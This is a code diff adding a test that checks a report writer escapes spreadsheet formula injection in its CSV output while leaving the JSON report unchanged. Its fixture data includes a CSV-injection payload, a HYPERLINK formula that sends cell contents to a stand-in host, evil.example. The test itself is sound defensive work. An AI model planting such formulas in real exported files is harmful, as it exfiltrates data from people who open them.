@@ -182,3 +182,23 @@ def test_max_image_pixels_must_be_a_positive_number(tmp_path):
                      "--max-image-pixels", "0")
     assert result.returncode == 2
     assert "--max-image-pixels must be >= 1, got 0" in error_line(result)
+
+
+def test_worst_examples_csv_quotes_texts_that_spreadsheets_would_run(tmp_path):
+    import csv
+    import json
+
+    import numpy as np
+
+    from tfxfer.reports.report_files import write_report
+
+    texts = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A2)", "fine text", "-"]
+    labels = np.array([0, 1, 0, 1, 0, 1])
+    probabilities = np.tile([[0.2, 0.8], [0.9, 0.1]], (3, 1)).astype(np.float32)  # every one wrong
+    write_report(tmp_path, probabilities, labels, ["=neg", "pos"], "text", texts, model="m", data="d")
+    with open(tmp_path / "worst_examples.csv", newline="", encoding="utf-8") as f:
+        rows = list(csv.DictReader(f))
+    assert sorted(row["input"] for row in rows) == sorted("'" + t if t[0] in "=+-@" else t for t in texts)
+    assert {row["true"] for row in rows} | {row["predicted"] for row in rows} == {"'=neg", "pos"}
+    report = json.loads((tmp_path / "report.json").read_text())
+    assert sorted(row["input"] for row in report["worst_examples"]) == sorted(texts), "the JSON keeps them as they are"
